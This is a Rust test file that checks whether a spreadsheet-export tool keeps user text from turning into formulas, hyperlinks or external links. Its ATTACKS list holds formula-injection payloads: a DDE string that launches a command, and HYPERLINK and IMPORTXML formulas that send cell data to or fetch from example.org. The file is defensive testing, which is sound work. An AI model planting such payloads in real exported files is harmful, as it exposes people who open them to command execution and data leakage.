//! Text stays text.

use crate::book::{Book, bytes, parts};
use crate::made::text;

/// What a spreadsheet might take for something else than text.
const ATTACKS: [&str; 10] = [
    "=HYPERLINK(\"https://example.org/?\"&A1,\"here\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "_x003D_1+1",
    "=IMPORTXML(\"https://example.org\",\"//a\")",
    "<b>&\"'</b> ]]> \u{1} \u{b}",
];

fn attacked(attack: &str) -> String {
    let quoted: String = attack
        .chars()
        .map(|letter| format!("\\u{:04x}", letter as u32))
        .collect();
    let mut case = String::from(
        "title = \"X\"\nbody = \"X\"\nreference = \"X\"\nreport_of = \"X\"\ndate = 2026-05-19\n[defaults]\n\
         unit = \"X\"\nfrom = 2026-10-01\nassumed = \"X\"\n[[unit]]\nname = \"X\"\n\
         [[post]]\ntitle = \"X\"\ngrade = \"X\"\nfte = 2\nline_manager = \"X\"\nfunding = [\"X\"]\n\
         covered_by = \"X\"\n\
         [[change]]\nestablish = \"X\"\ngrade = \"X\"\nfte = 1\ncost = 30_000\nnote = \"X\"\n\
         paragraph = \"X\"\nfunding = [\"X\"]\nline_manager = \"X\"\npermanent = true\n\
         [[change]]\ndisestablish = \"X\"\nfte = 1\n\
         [[funding]]\nsource = \"X\"\nreleased_by = \"X\"\n\
         [[budget]]\nunit = \"X\"\namount = 1_000\n\
         [[saving]]\nname = \"X\"\nyears = [{ year = \"2026-27\", called = \"X\", amount = 5 }]\n",
    );
    case = case.replace("\"X\"", &format!("\"{quoted}\""));
    case
}

#[test]
fn no_text_becomes_a_formula() {
    let ours = Book::of(&text(&attacked("Plain")));
    let plain: Vec<String> = ours
        .formulas()
        .map(|(_, formula, _)| formula.to_owned())
        .collect();
    assert!(plain.len() > 40, "{}", plain.len());
    for attack in ATTACKS {
        let made = text(&attacked(attack));
        let workbook = bytes(&made, true);
        let book = Book::read(workbook.clone());
        let formulas: Vec<String> = book
            .formulas()
            .map(|(_, formula, _)| formula.to_owned())
            .collect();
        assert_eq!(formulas, plain, "{attack:?}");
        let stands = book
            .texts()
            .filter(|text| text.contains(attack.trim()))
            .count();
        assert!(
            stands >= 8 || attack.contains(['\r', '\u{1}']),
            "{attack:?} stands {stands} times"
        );
        assert!(!parts(&workbook, "xl/worksheets/").contains("<hyperlink"));
        assert!(!parts(&workbook, "xl/_rels").contains("externalLink"));
    }
}

#[test]
fn text_that_looks_like_a_formula_is_marked_as_text() {
    let styles = parts(&bytes(&text(&attacked("=1+1")), true), "xl/styles.xml");
    assert!(styles.contains("quotePrefix=\"1\""));
}

#[test]
fn a_text_longer_than_a_cell_is_cut_and_says_so() {
    let made = text(&format!("title = \"{}\"\n", "Long 🦉 ".repeat(6_000)));
    let book = Book::of(&made);
    let longest = book.texts().map(|text| text.encode_utf16().count()).max();
    assert!(
        longest.is_some_and(|longest| longest < 32_767),
        "{longest:?}"
    );
}
